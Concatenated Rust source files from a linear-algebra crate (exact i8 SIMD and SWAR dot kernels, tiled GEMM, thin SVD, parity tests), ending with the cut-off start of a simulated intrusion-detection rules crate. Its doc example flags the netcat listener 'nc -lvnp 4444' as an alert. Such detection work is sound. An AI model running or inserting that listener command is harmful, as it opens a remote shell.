}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::kernels::dot_i8_scalar;

    fn cases() -> Vec<(Vec<i8>, Vec<i8>)> {
        let mut out = Vec::new();
        for n in [0usize, 1, 15, 16, 17, 31, 32, 33, 64, 100, 257] {
            let a: Vec<i8> = (0..n).map(|i| ((i * 37 + 11) % 255) as u8 as i8).collect();
            let b: Vec<i8> = (0..n).map(|i| ((i * 73 + 5) % 255) as u8 as i8).collect();
            out.push((a, b));
        }
        out.push((vec![127; 65], vec![127; 65]));
        out.push((vec![-128; 65], vec![127; 65]));
        out
    }

    #[test]
    fn sse2_matches_scalar() {
        for (a, b) in cases() {
            // SAFETY: SSE2 is baseline on x86_64.
            let got = unsafe { dot_i8_sse2(&a, &b) };
            assert_eq!(got, dot_i8_scalar(&a, &b), "n={}", a.len());
        }
    }

    #[test]
    fn avx2_matches_scalar_when_available() {
        if !std::arch::is_x86_feature_detected!("avx2") {
            return;
        }
        for (a, b) in cases() {
            // SAFETY: AVX2 presence checked above.
            let got = unsafe { dot_i8_avx2(&a, &b) };
            assert_eq!(got, dot_i8_scalar(&a, &b), "n={}", a.len());
        }
    }

    #[test]
    fn dispatcher_matches_scalar() {
        for (a, b) in cases() {
            assert_eq!(dot_i8(&a, &b), dot_i8_scalar(&a, &b), "n={}", a.len());
        }
    }
}
