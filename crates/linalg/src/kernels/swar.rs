//! Portable u64-word i8 dot kernel — the SWAR fallback every target
//! can run, and the implementation [`crate::kernels::I8Kernel::Arch`]
//! resolves to where no `core::arch` path exists.
//!
//! Eight code lanes per side are loaded as one little-endian `u64`
//! word, then peeled with shifts into sign-extended i16-range values
//! whose widening multiplies land in four *independent* i32
//! accumulators. Two properties matter:
//!
//! * **Exactness** — every product `aᵢ·bᵢ` of two i8 codes fits an
//!   i16 (`|p| ≤ 16 129`; ≤ 16 384 even for the never-emitted −128),
//!   and the i32 accumulators take one such product per lane pair per
//!   word, so nothing rounds and nothing overflows below ~2¹⁷ lanes —
//!   far past any embedding width. The result is bit-identical to the
//!   scalar reference (and hence to the SSE2/AVX2/NEON paths, which
//!   are exact for the same reason).
//! * **Word-level parallelism without `unsafe`** — the u64 loads give
//!   the compiler a single 8-byte read per side per step, and the four
//!   accumulator chains expose enough ILP that LLVM lowers the peeled
//!   lanes to packed widening multiply-adds (`pmaddwd` on x86_64)
//!   where available. Integer sums reassociate freely — unlike the
//!   f32 kernels, the optimizer is *allowed* to vectorize this, which
//!   is exactly why the i8 scan can beat the f32 scan on one core.

/// Exact i8 dot product over u64-word lanes. Identical to
/// [`crate::kernels::dot_i8_scalar`] on every input.
///
/// # Panics
///
/// Panics if lengths differ.
pub fn dot_i8(a: &[i8], b: &[i8]) -> i32 {
    assert_eq!(a.len(), b.len(), "i8 dot length mismatch");
    let mut wa = a.chunks_exact(8);
    let mut wb = b.chunks_exact(8);
    let (mut acc0, mut acc1, mut acc2, mut acc3) = (0i32, 0i32, 0i32, 0i32);
    for (ca, cb) in (&mut wa).zip(&mut wb) {
        let x = word(ca);
        let y = word(cb);
        acc0 += lane(x, 0) * lane(y, 0) + lane(x, 4) * lane(y, 4);
        acc1 += lane(x, 1) * lane(y, 1) + lane(x, 5) * lane(y, 5);
        acc2 += lane(x, 2) * lane(y, 2) + lane(x, 6) * lane(y, 6);
        acc3 += lane(x, 3) * lane(y, 3) + lane(x, 7) * lane(y, 7);
    }
    let mut acc = acc0 + acc1 + acc2 + acc3;
    for (&x, &y) in wa.remainder().iter().zip(wb.remainder()) {
        acc += x as i32 * y as i32;
    }
    acc
}

/// Packs 8 i8 codes into one little-endian u64 word.
#[inline(always)]
fn word(c: &[i8]) -> u64 {
    u64::from_le_bytes([
        c[0] as u8, c[1] as u8, c[2] as u8, c[3] as u8, c[4] as u8, c[5] as u8, c[6] as u8,
        c[7] as u8,
    ])
}

/// Sign-extends byte lane `i` of a packed word to i32.
#[inline(always)]
fn lane(w: u64, i: usize) -> i32 {
    (w >> (8 * i)) as u8 as i8 as i32
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn word_and_lane_round_trip() {
        let codes: [i8; 8] = [1, -1, 127, -127, 0, -128, 64, -33];
        let w = word(&codes);
        for (i, &c) in codes.iter().enumerate() {
            assert_eq!(lane(w, i), c as i32);
        }
    }

    #[test]
    fn tail_handling_is_exact() {
        // 11 elements: one full word + 3-lane tail.
        let a: Vec<i8> = vec![3, -7, 11, 127, -127, 2, 0, -5, 9, -9, 1];
        let b: Vec<i8> = vec![-2, 5, 13, -127, 127, 1, 42, -6, 7, 7, -1];
        let want: i32 = a.iter().zip(&b).map(|(&x, &y)| x as i32 * y as i32).sum();
        assert_eq!(dot_i8(&a, &b), want);
    }
}
