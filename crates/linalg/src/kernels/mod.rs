//! Blocked + SIMD micro-kernels behind the two compute-bound hot
//! paths: the quantized candidate scan (`crate::quant`) and the
//! encoder matmuls (`crate::matrix`).
//!
//! Layering contract — one place decides *how* a dot product or a
//! matmul tile is computed; callers decide *what* to compute:
//!
//! * **f32 kernels never change the answer.** [`dot_f32`] is the
//!   sequential reference accumulation (the historical
//!   `a·b = Σᵢ aᵢbᵢ` fold, in index order), and the GEMM micro-kernels
//!   ([`gemm_nn`], [`gemm_nt`]) tile over *outputs only* — every
//!   output element still accumulates its k-terms in ascending order,
//!   so tiling is bit-identical to the naive loops. The f32 scan and
//!   the encoder embeddings therefore stay bit-reproducible.
//! * **i8 kernels are exact integer arithmetic.** [`dot_i8`] computes
//!   `Σᵢ aᵢ·bᵢ` over i8 codes with i16-widening multiplies summed into
//!   i32 — no rounding anywhere — so every implementation (scalar
//!   reference, portable u64-word SWAR, SSE2/AVX2, NEON) returns the
//!   *same* i32 on every platform. Callers apply the
//!   `scale_row × scale_query` dequantization once, to the final
//!   integer (see `quant::finish_i8_dot`), which is what makes the
//!   SIMD scan score-identical to the scalar reference.
//!
//! Implementation selection:
//!
//! * [`I8Kernel::Scalar`] — the per-element reference ([`dot_i8_scalar`]).
//! * [`I8Kernel::Swar`] — portable word-at-a-time kernel: both code
//!   slices are loaded 8 lanes per `u64` word and the lanes peeled
//!   with shifts into four independent i32 accumulators
//!   ([`swar::dot_i8`]); compiles on every target, no `unsafe`.
//! * [`I8Kernel::Arch`] — `core::arch` SIMD where the target has it:
//!   x86_64 (SSE2 baseline, AVX2 picked at runtime via
//!   `is_x86_feature_detected!`) and aarch64 NEON. Falls back to the
//!   SWAR kernel on other targets, so [`I8Kernel::Arch`] is always
//!   safe to request.
//!
//! [`dot_i8`] (what the scan uses) is `Arch`. The enum exists so the
//! parity suites — and the scalar/blocked/SIMD rows of
//! `benches/quant_scale.rs` — can pin every path against the scalar
//! reference on whatever hardware CI runs.
//!
//! The `x86`/`neon` submodules are the workspace's **only** `unsafe`
//! code; they carry `#![deny(unsafe_op_in_unsafe_fn)]` and per-call
//! safety comments, and the crate root's `#![deny(unsafe_code)]` is
//! lifted for exactly these two modules (see `ci.yml`'s policy note).

mod gemm;
pub mod swar;

#[cfg(target_arch = "aarch64")]
#[allow(unsafe_code)]
pub mod neon;
#[cfg(target_arch = "x86_64")]
#[allow(unsafe_code)]
pub mod x86;

pub use gemm::{gemm_nn, gemm_nt};

/// Which i8 dot-product implementation to run. All variants return
/// identical results (the arithmetic is exact); the enum exists for
/// parity tests and the scalar/blocked/SIMD bench rows.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum I8Kernel {
    /// Per-element reference implementation.
    Scalar,
    /// Portable u64-word SWAR (8 code lanes per word load).
    Swar,
    /// `core::arch` SIMD for the current target (SSE2/AVX2 on x86_64,
    /// NEON on aarch64); the SWAR kernel elsewhere.
    #[default]
    Arch,
}

impl I8Kernel {
    /// Short stable name for bench/report rows.
    pub fn name(self) -> &'static str {
        match self {
            I8Kernel::Scalar => "scalar",
            I8Kernel::Swar => "swar",
            I8Kernel::Arch => arch_kernel_name(),
        }
    }
}

/// The name of the SIMD path [`I8Kernel::Arch`] resolves to on this
/// target (what the bench table and ROADMAP record).
pub fn arch_kernel_name() -> &'static str {
    #[cfg(target_arch = "x86_64")]
    {
        if std::arch::is_x86_feature_detected!("avx2") {
            "avx2"
        } else {
            "sse2"
        }
    }
    #[cfg(target_arch = "aarch64")]
    {
        "neon"
    }
    #[cfg(not(any(target_arch = "x86_64", target_arch = "aarch64")))]
    {
        "swar"
    }
}

/// Scalar reference i8 dot product: `Σᵢ aᵢ·bᵢ` with i32 accumulation —
/// exact, the value every other kernel must reproduce bit for bit.
///
/// # Panics
///
/// Panics if lengths differ.
#[inline]
pub fn dot_i8_scalar(a: &[i8], b: &[i8]) -> i32 {
    assert_eq!(a.len(), b.len(), "i8 dot length mismatch");
    a.iter().zip(b).map(|(&x, &y)| x as i32 * y as i32).sum()
}

/// The i8 dot product the scan hot path uses: the best kernel for
/// this target ([`I8Kernel::Arch`]). Exact integer arithmetic —
/// identical to [`dot_i8_scalar`] on every input.
///
/// # Panics
///
/// Panics if lengths differ.
#[inline]
pub fn dot_i8(a: &[i8], b: &[i8]) -> i32 {
    dot_i8_with(I8Kernel::Arch, a, b)
}

/// [`dot_i8`] through an explicitly chosen kernel.
///
/// # Panics
///
/// Panics if lengths differ.
#[inline]
pub fn dot_i8_with(kernel: I8Kernel, a: &[i8], b: &[i8]) -> i32 {
    assert_eq!(a.len(), b.len(), "i8 dot length mismatch");
    match kernel {
        I8Kernel::Scalar => a.iter().zip(b).map(|(&x, &y)| x as i32 * y as i32).sum(),
        I8Kernel::Swar => swar::dot_i8(a, b),
        I8Kernel::Arch => {
            #[cfg(target_arch = "x86_64")]
            {
                x86::dot_i8(a, b)
            }
            #[cfg(target_arch = "aarch64")]
            {
                neon::dot_i8(a, b)
            }
            #[cfg(not(any(target_arch = "x86_64", target_arch = "aarch64")))]
            {
                swar::dot_i8(a, b)
            }
        }
    }
}

/// Sequential-reference f32 dot product — the exact accumulation order
/// of the historical `crate::matrix::dot`, factored here so the
/// blocked scan and the matrix kernels share one definition. The f32
/// scan paths **must** route through this (never a reassociated SIMD
/// sum): full-precision scores are pinned bit-identical to the
/// pre-kernel code.
///
/// # Panics
///
/// Panics if lengths differ.
#[inline]
pub fn dot_f32(a: &[f32], b: &[f32]) -> f32 {
    assert_eq!(a.len(), b.len(), "dot length mismatch");
    a.iter().zip(b).map(|(x, y)| x * y).sum()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Deterministic pseudo-random i8 codes covering the full range.
    fn codes(seed: u64, n: usize) -> Vec<i8> {
        let mut state = seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1;
        (0..n)
            .map(|_| {
                state ^= state << 13;
                state ^= state >> 7;
                state ^= state << 17;
                // Codes live in [-127, 127] (symmetric quantization
                // never emits -128), but the kernels must be exact on
                // -128 too.
                (state >> 24) as u8 as i8
            })
            .collect()
    }

    #[test]
    fn every_kernel_matches_the_scalar_reference_on_ragged_widths() {
        // Lane-count edges for all implementations: 8-lane SWAR words,
        // 16-lane SSE2, 32-lane AVX2 — plus 0, 1, and off-by-ones.
        for n in [0, 1, 7, 8, 9, 15, 16, 17, 31, 32, 33, 63, 64, 65, 257] {
            let a = codes(n as u64 + 1, n);
            let b = codes(n as u64 + 1000, n);
            let want = dot_i8_scalar(&a, &b);
            for kernel in [I8Kernel::Scalar, I8Kernel::Swar, I8Kernel::Arch] {
                assert_eq!(
                    dot_i8_with(kernel, &a, &b),
                    want,
                    "{} kernel diverged at width {n}",
                    kernel.name()
                );
            }
            assert_eq!(dot_i8(&a, &b), want);
        }
    }

    #[test]
    fn extreme_codes_do_not_overflow() {
        // 4096 saturated products: 4096 · 127² = 66 M, far inside i32,
        // and every kernel must agree on the exact sum.
        let a = vec![127i8; 4096];
        let b = vec![-127i8; 4096];
        let want = -(4096 * 127 * 127);
        for kernel in [I8Kernel::Scalar, I8Kernel::Swar, I8Kernel::Arch] {
            assert_eq!(dot_i8_with(kernel, &a, &b), want, "{}", kernel.name());
        }
        // -128 (never produced by our encoder, still exact).
        let a = vec![-128i8; 33];
        let b = vec![-128i8; 33];
        assert_eq!(dot_i8(&a, &b), 33 * 128 * 128);
    }

    #[test]
    fn dot_f32_matches_matrix_dot_bitwise() {
        let a = [0.3f32, -1.7, 2.2, 0.01, 5.5e-3, -9.0];
        let b = [1.1f32, 0.4, -0.9, 3.0, -2.25, 0.125];
        assert_eq!(dot_f32(&a, &b), crate::matrix::dot(&a, &b));
    }

    #[test]
    fn kernel_names_are_stable() {
        assert_eq!(I8Kernel::Scalar.name(), "scalar");
        assert_eq!(I8Kernel::Swar.name(), "swar");
        // Arch resolves per target; it must at least be one of the
        // known implementations.
        assert!(["sse2", "avx2", "neon", "swar"].contains(&I8Kernel::Arch.name()));
    }
}
