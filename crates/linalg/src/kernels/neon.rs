//! aarch64 NEON i8 dot kernel. NEON (ASIMD) is part of the aarch64
//! baseline, so no runtime detection is needed.
//!
//! `vmull_s8` widens 8 i8×i8 products to i16 exactly;
//! `vpadalq_s16` pairwise-accumulates them into four i32 lanes — all
//! integer, all exact, so the horizontal sum equals the scalar
//! reference bit for bit (the cross-kernel parity suite pins this).
//!
//! Accumulator headroom mirrors the x86 path: each i32 lane absorbs
//! one ≤ 2·127² pair-sum per 8 processed elements, exact below ~2²⁰
//! elements (`debug_assert`ed).
//!
//! This module and `x86` are the only `unsafe` code in the workspace;
//! `#![deny(unsafe_op_in_unsafe_fn)]` forces every unsafe operation
//! into an explicit block with its safety argument alongside.
#![deny(unsafe_op_in_unsafe_fn)]

use core::arch::aarch64::*;

/// Widths beyond this could overflow an i32 accumulator lane in the
/// worst case; embedding dims are ≤ a few thousand.
const MAX_EXACT_LEN: usize = 1 << 20;

/// NEON i8 dot product. Exact: identical to the scalar reference.
///
/// # Panics
///
/// Panics if lengths differ.
#[inline]
pub fn dot_i8(a: &[i8], b: &[i8]) -> i32 {
    assert_eq!(a.len(), b.len(), "i8 dot length mismatch");
    debug_assert!(a.len() <= MAX_EXACT_LEN, "i8 dot width overflows i32");
    let n = a.len();
    let blocks = n / 8;
    // SAFETY: NEON is mandatory on aarch64; `vld1_s8` has no alignment
    // requirement and block `i` reads lanes [8i, 8i+8) with 8(i+1) ≤ n.
    let mut total = unsafe {
        let mut acc = vdupq_n_s32(0);
        for i in 0..blocks {
            let va = vld1_s8(a.as_ptr().add(i * 8));
            let vb = vld1_s8(b.as_ptr().add(i * 8));
            // Exact widening multiply (i8×i8 → i16), then pairwise
            // add-accumulate into i32 lanes.
            acc = vpadalq_s16(acc, vmull_s8(va, vb));
        }
        vaddvq_s32(acc)
    };
    for i in blocks * 8..n {
        total += a[i] as i32 * b[i] as i32;
    }
    total
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::kernels::dot_i8_scalar;

    #[test]
    fn neon_matches_scalar() {
        for n in [0usize, 1, 7, 8, 9, 16, 33, 64, 257] {
            let a: Vec<i8> = (0..n).map(|i| ((i * 37 + 11) % 255) as u8 as i8).collect();
            let b: Vec<i8> = (0..n).map(|i| ((i * 73 + 5) % 255) as u8 as i8).collect();
            assert_eq!(dot_i8(&a, &b), dot_i8_scalar(&a, &b), "n={n}");
        }
    }
}
