//! Register-tiled f32 GEMM micro-kernels behind [`crate::Matrix`]'s
//! `matmul` / `matmul_transposed` — the encoder's compute-bound path.
//!
//! **Bit-identity contract.** Tiling here reorders which *outputs* are
//! computed when, never the order in which one output accumulates its
//! k-terms: every `out[i][j]` still sums `a[i][k]·b[k][j]` for k
//! ascending (including the historical `a[i][k] == 0.0` skip in the
//! NN kernel, and the skip-free sequential fold of `dot` in the NT
//! kernel). f32 addition is deterministic for a fixed order, so the
//! tiled kernels produce bit-identical matrices to the naive loops —
//! which is what keeps every encoder embedding, and everything
//! downstream of one, byte-stable across this optimization (pinned by
//! `nn`'s batched-forward parity tests and the engine suites).
//!
//! **Why tiling is faster anyway.** The naive ikj loop streams the
//! whole output row through memory once per k (a read-modify-write of
//! `ocols` floats), so the inner loop is load/store-bound. The micro
//! kernel holds an `MR × NR` output tile in registers across the
//! entire k loop: per k it reads `NR` values of B once and `MR`
//! values of A once, and touches memory for the outputs exactly once
//! at the end. LLVM keeps the fixed-size tile in vector registers and
//! vectorizes the NR lane (reassociation-free — each lane is a
//! distinct output), so the speedup needs no `unsafe` and no
//! arch-specific code.

/// Output rows per register tile.
const MR: usize = 4;
/// Output columns per register tile (two 4-lane vectors on SSE2, one
/// 8-lane vector on AVX).
const NR: usize = 8;

/// Computes rows `[row_start, row_start + nrows)` of `A·B` into
/// `chunk` (which holds exactly those output rows), where `A` is
/// `? × inner` and `B` is `inner × ocols`, both row-major.
///
/// Bit-identical to the historical ikj loop (k ascending per output,
/// zero-skip on `a[i][k]`).
pub fn gemm_nn(
    a: &[f32],
    b: &[f32],
    chunk: &mut [f32],
    row_start: usize,
    nrows: usize,
    inner: usize,
    ocols: usize,
) {
    debug_assert!(chunk.len() >= nrows * ocols, "output chunk too small");
    let full_i = nrows - nrows % MR;
    let full_j = ocols - ocols % NR;
    for i0 in (0..full_i).step_by(MR) {
        let a_base = (row_start + i0) * inner;
        for j0 in (0..full_j).step_by(NR) {
            let mut acc = [[0.0f32; NR]; MR];
            for k in 0..inner {
                let bk = &b[k * ocols + j0..k * ocols + j0 + NR];
                let mut bn = [0.0f32; NR];
                bn.copy_from_slice(bk);
                for (m, acc_m) in acc.iter_mut().enumerate() {
                    let aik = a[a_base + m * inner + k];
                    // The historical kernel skipped zero A elements;
                    // keeping the skip keeps the accumulation-term
                    // sequence — and thus the bits — identical.
                    if aik != 0.0 {
                        for (o, &bv) in acc_m.iter_mut().zip(&bn) {
                            *o += aik * bv;
                        }
                    }
                }
            }
            for (m, acc_m) in acc.iter().enumerate() {
                chunk[(i0 + m) * ocols + j0..(i0 + m) * ocols + j0 + NR].copy_from_slice(acc_m);
            }
        }
        // Column remainder of the full row tile.
        if full_j < ocols {
            gemm_nn_edge(
                a,
                b,
                chunk,
                row_start,
                i0,
                MR,
                full_j,
                ocols - full_j,
                inner,
                ocols,
            );
        }
    }
    // Row remainder (all columns).
    if full_i < nrows {
        gemm_nn_edge(
            a,
            b,
            chunk,
            row_start,
            full_i,
            nrows - full_i,
            0,
            ocols,
            inner,
            ocols,
        );
    }
}

/// Edge-tile fallback for [`gemm_nn`]: the naive per-output loop over
/// an `mrows × ncols` output block at `(i0, j0)` — same k order, same
/// zero-skip, so edges are bit-identical too.
#[allow(clippy::too_many_arguments)]
fn gemm_nn_edge(
    a: &[f32],
    b: &[f32],
    chunk: &mut [f32],
    row_start: usize,
    i0: usize,
    mrows: usize,
    j0: usize,
    ncols: usize,
    inner: usize,
    ocols: usize,
) {
    for m in 0..mrows {
        let a_row = &a[(row_start + i0 + m) * inner..(row_start + i0 + m + 1) * inner];
        let out_row = &mut chunk[(i0 + m) * ocols + j0..(i0 + m) * ocols + j0 + ncols];
        out_row.fill(0.0);
        for (k, &aik) in a_row.iter().enumerate() {
            if aik == 0.0 {
                continue;
            }
            let b_row = &b[k * ocols + j0..k * ocols + j0 + ncols];
            for (o, &bkj) in out_row.iter_mut().zip(b_row) {
                *o += aik * bkj;
            }
        }
    }
}

/// Computes `out = A·Bᵀ` where `A` is `m_rows × inner` and `B` is
/// `n_rows × inner`, both row-major — the transpose-free kernel behind
/// `Matrix::matmul_transposed` (attention's `Q·Kᵀ`).
///
/// Bit-identical to `dot(a.row(m), b.row(n))` per output: each output
/// accumulates its k-terms in ascending order with no zero-skip,
/// exactly as the sequential `dot` fold does.
pub fn gemm_nt(a: &[f32], b: &[f32], out: &mut [f32], m_rows: usize, n_rows: usize, inner: usize) {
    debug_assert!(out.len() >= m_rows * n_rows, "output buffer too small");
    let full_m = m_rows - m_rows % MR;
    let full_n = n_rows - n_rows % NR;
    for m0 in (0..full_m).step_by(MR) {
        for n0 in (0..full_n).step_by(NR) {
            let mut acc = [[0.0f32; NR]; MR];
            for k in 0..inner {
                let mut bn = [0.0f32; NR];
                for (v, idx) in bn.iter_mut().zip(n0..n0 + NR) {
                    *v = b[idx * inner + k];
                }
                for (m, acc_m) in acc.iter_mut().enumerate() {
                    let amk = a[(m0 + m) * inner + k];
                    for (o, &bv) in acc_m.iter_mut().zip(&bn) {
                        *o += amk * bv;
                    }
                }
            }
            for (m, acc_m) in acc.iter().enumerate() {
                out[(m0 + m) * n_rows + n0..(m0 + m) * n_rows + n0 + NR].copy_from_slice(acc_m);
            }
        }
        for n in full_n..n_rows {
            for m in m0..m0 + MR {
                out[m * n_rows + n] = dot_seq(
                    &a[m * inner..(m + 1) * inner],
                    &b[n * inner..(n + 1) * inner],
                );
            }
        }
    }
    for m in full_m..m_rows {
        for n in 0..n_rows {
            out[m * n_rows + n] = dot_seq(
                &a[m * inner..(m + 1) * inner],
                &b[n * inner..(n + 1) * inner],
            );
        }
    }
}

/// The sequential dot fold (identical to `matrix::dot` without the
/// length assert — callers slice equal lengths by construction).
#[inline(always)]
fn dot_seq(a: &[f32], b: &[f32]) -> f32 {
    a.iter().zip(b).map(|(x, y)| x * y).sum()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The historical naive kernels, kept verbatim as the bit-identity
    /// reference.
    fn naive_nn(a: &[f32], b: &[f32], nrows: usize, inner: usize, ocols: usize) -> Vec<f32> {
        let mut out = vec![0.0f32; nrows * ocols];
        for r in 0..nrows {
            let out_row = &mut out[r * ocols..(r + 1) * ocols];
            for (k, &aik) in a[r * inner..(r + 1) * inner].iter().enumerate() {
                if aik == 0.0 {
                    continue;
                }
                for (o, &bkj) in out_row.iter_mut().zip(&b[k * ocols..(k + 1) * ocols]) {
                    *o += aik * bkj;
                }
            }
        }
        out
    }

    fn naive_nt(a: &[f32], b: &[f32], m_rows: usize, n_rows: usize, inner: usize) -> Vec<f32> {
        let mut out = vec![0.0f32; m_rows * n_rows];
        for m in 0..m_rows {
            for n in 0..n_rows {
                out[m * n_rows + n] = dot_seq(
                    &a[m * inner..(m + 1) * inner],
                    &b[n * inner..(n + 1) * inner],
                );
            }
        }
        out
    }

    fn filled(n: usize, f: impl Fn(usize) -> f32) -> Vec<f32> {
        (0..n).map(f).collect()
    }

    #[test]
    fn nn_is_bit_identical_across_ragged_shapes() {
        // Shapes straddling the MR×NR tile edges, with planted zeros
        // to exercise the skip path.
        for (m, k, n) in [
            (1, 1, 1),
            (3, 5, 7),
            (4, 8, 8),
            (5, 9, 9),
            (8, 16, 17),
            (13, 7, 31),
        ] {
            let a = filled(m * k, |i| {
                if i % 5 == 0 {
                    0.0
                } else {
                    ((i * 31 % 17) as f32 - 8.0) * 0.37
                }
            });
            let b = filled(k * n, |i| ((i * 13 % 23) as f32 - 11.0) * 0.73);
            let want = naive_nn(&a, &b, m, k, n);
            let mut got = vec![0.0f32; m * n];
            gemm_nn(&a, &b, &mut got, 0, m, k, n);
            assert_eq!(got, want, "nn {m}x{k}x{n}");
        }
    }

    #[test]
    fn nn_respects_row_start_offsets() {
        // The parallel path hands each worker a row window of A.
        let (m, k, n) = (10, 6, 9);
        let a = filled(m * k, |i| (i as f32).sin());
        let b = filled(k * n, |i| (i as f32).cos());
        let want = naive_nn(&a, &b, m, k, n);
        let mut got = vec![0.0f32; 4 * n];
        gemm_nn(&a, &b, &mut got, 3, 4, k, n);
        assert_eq!(got, want[3 * n..7 * n], "offset window");
    }

    #[test]
    fn nt_is_bit_identical_across_ragged_shapes() {
        for (m, n, k) in [(1, 1, 1), (3, 7, 5), (4, 8, 8), (5, 9, 3), (16, 33, 12)] {
            let a = filled(m * k, |i| ((i * 7 % 19) as f32 - 9.0) * 0.11);
            let b = filled(n * k, |i| ((i * 3 % 13) as f32 - 6.0) * 1.7);
            let want = naive_nt(&a, &b, m, n, k);
            let mut got = vec![0.0f32; m * n];
            gemm_nt(&a, &b, &mut got, m, n, k);
            assert_eq!(got, want, "nt {m}x{n}x{k}");
        }
    }

    #[test]
    fn zero_inner_dimension_yields_zero_output() {
        let mut out = vec![9.0f32; 6];
        gemm_nn(&[], &[], &mut out, 0, 2, 0, 3);
        assert_eq!(out, vec![0.0; 6]);
        let mut out = vec![9.0f32; 6];
        gemm_nt(&[], &[], &mut out, 2, 3, 0);
        assert_eq!(out, vec![0.0; 6]);
    }
}
