//! Thin singular value decomposition built on [`crate::eig::eigh`].
//!
//! For a data matrix `A (n × d)` with `d` modest (embedding width), the
//! right singular vectors are the eigenvectors of `AᵀA (d × d)` — exactly
//! what PCA needs, and the route the paper takes ("the PCA projection
//! matrix W can be easily obtained via SVD").

use crate::eig::eigh;
use crate::matrix::Matrix;

/// Thin SVD `A ≈ U · diag(σ) · Vᵀ`.
#[derive(Debug, Clone, PartialEq)]
pub struct Svd {
    /// Left singular vectors, `n × k` (columns).
    pub u: Matrix,
    /// Singular values, descending, length `k`.
    pub sigma: Vec<f32>,
    /// Right singular vectors, `d × k` (columns).
    pub v: Matrix,
}

/// Computes the thin SVD of `a` keeping the top `k` components.
///
/// Works via the eigendecomposition of `aᵀa`, so its cost is
/// `O(n·d² + d³)` — cheap when `d` (the embedding width) is small
/// relative to `n` (the number of samples).
///
/// ```
/// use linalg::{thin_svd, Matrix};
/// let a = Matrix::from_rows(&[&[3.0, 0.0], &[0.0, 2.0], &[0.0, 0.0]]);
/// let svd = thin_svd(&a, 2);
/// assert!((svd.sigma[0] - 3.0).abs() < 1e-3);
/// assert!((svd.sigma[1] - 2.0).abs() < 1e-3);
/// ```
///
/// # Panics
///
/// Panics if `k == 0` or `k > a.cols()`.
pub fn thin_svd(a: &Matrix, k: usize) -> Svd {
    let d = a.cols();
    assert!(k >= 1 && k <= d, "k must be in 1..={d}, got {k}");

    // Gram matrix AᵀA (d × d), symmetric PSD.
    let gram = a.transpose().matmul(a);
    let e = eigh(&gram, 100);

    let sigma: Vec<f32> = e.values[..k].iter().map(|&l| l.max(0.0).sqrt()).collect();
    let v = Matrix::from_fn(d, k, |r, c| e.vectors[(r, c)]);

    // U = A V Σ⁻¹ (columns with σ≈0 are left as zero vectors).
    let av = a.matmul(&v);
    let mut u = Matrix::zeros(a.rows(), k);
    for c in 0..k {
        let s = sigma[c];
        if s > 1e-7 {
            for r in 0..a.rows() {
                u[(r, c)] = av[(r, c)] / s;
            }
        }
    }
    Svd { u, sigma, v }
}

impl Svd {
    /// Reconstructs the rank-`k` approximation `U · diag(σ) · Vᵀ`.
    pub fn reconstruct(&self) -> Matrix {
        let k = self.sigma.len();
        let us = Matrix::from_fn(self.u.rows(), k, |r, c| self.u[(r, c)] * self.sigma[c]);
        us.matmul(&self.v.transpose())
    }

    /// Fraction of total variance captured per component.
    pub fn explained_variance_ratio(&self) -> Vec<f32> {
        let total: f32 = self.sigma.iter().map(|s| s * s).sum();
        if total == 0.0 {
            return vec![0.0; self.sigma.len()];
        }
        self.sigma.iter().map(|s| s * s / total).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn diagonal_singular_values() {
        let a = Matrix::from_rows(&[&[3.0, 0.0], &[0.0, 2.0], &[0.0, 0.0]]);
        let svd = thin_svd(&a, 2);
        assert!((svd.sigma[0] - 3.0).abs() < 1e-3);
        assert!((svd.sigma[1] - 2.0).abs() < 1e-3);
    }

    #[test]
    fn full_rank_reconstruction() {
        let a = Matrix::from_fn(6, 4, |r, c| ((r * 5 + c * 3) % 7) as f32 - 3.0);
        let svd = thin_svd(&a, 4);
        let rec = svd.reconstruct();
        let err = (&rec - &a).frobenius_norm() / a.frobenius_norm();
        assert!(err < 1e-3, "relative error {err}");
    }

    #[test]
    fn truncated_svd_is_best_low_rank() {
        // Rank-1 matrix: truncation to k=1 must be near-exact.
        let u = Matrix::from_rows(&[&[1.0], &[2.0], &[3.0]]);
        let v = Matrix::from_rows(&[&[4.0, 5.0]]);
        let a = u.matmul(&v);
        let svd = thin_svd(&a, 1);
        let err = (&svd.reconstruct() - &a).frobenius_norm();
        assert!(err < 1e-3, "rank-1 reconstruction error {err}");
    }

    #[test]
    fn v_columns_are_orthonormal() {
        let a = Matrix::from_fn(10, 5, |r, c| ((r * 7 + c * 11) % 9) as f32 / 4.0);
        let svd = thin_svd(&a, 5);
        let gram = svd.v.transpose().matmul(&svd.v);
        let err = (&gram - &Matrix::identity(5)).frobenius_norm();
        assert!(err < 1e-2, "V orthonormality error {err}");
    }

    #[test]
    fn sigma_descending_nonnegative() {
        let a = Matrix::from_fn(8, 6, |r, c| ((r + c * c) % 5) as f32);
        let svd = thin_svd(&a, 6);
        for w in svd.sigma.windows(2) {
            assert!(w[0] >= w[1] - 1e-4);
        }
        assert!(svd.sigma.iter().all(|&s| s >= 0.0));
    }

    #[test]
    fn explained_variance_sums_to_one_at_full_rank() {
        let a = Matrix::from_fn(9, 4, |r, c| ((r * 2 + c) % 6) as f32 - 2.0);
        let svd = thin_svd(&a, 4);
        let sum: f32 = svd.explained_variance_ratio().iter().sum();
        assert!((sum - 1.0).abs() < 1e-4);
    }

    #[test]
    #[should_panic(expected = "k must be")]
    fn zero_k_panics() {
        let _ = thin_svd(&Matrix::zeros(3, 3), 0);
    }
}
