//! A rule-based commercial-IDS simulator.
//!
//! The paper uses alerts from "a commercial IDS, developed by a Fortune
//! Global 500 company" as its (noisy, black-box) supervision source. We
//! cannot ship that product, so this crate simulates its observable
//! behaviour: a set of hand-crafted signatures over parsed command lines
//! that
//!
//! * catch the **in-box** attack variants exactly,
//! * miss the **out-of-box** variants (brittle flags/interpreters/schemes),
//! * and optionally inject extra label noise (deterministic per line, so
//!   repeated queries agree — the supervision is a black box, not a coin
//!   flip).
//!
//! ```
//! use ids_rules::RuleIds;
//!
//! let ids = RuleIds::with_default_rules();
//! assert!(ids.is_alert("nc -lvnp 4444"));          // in-box signature
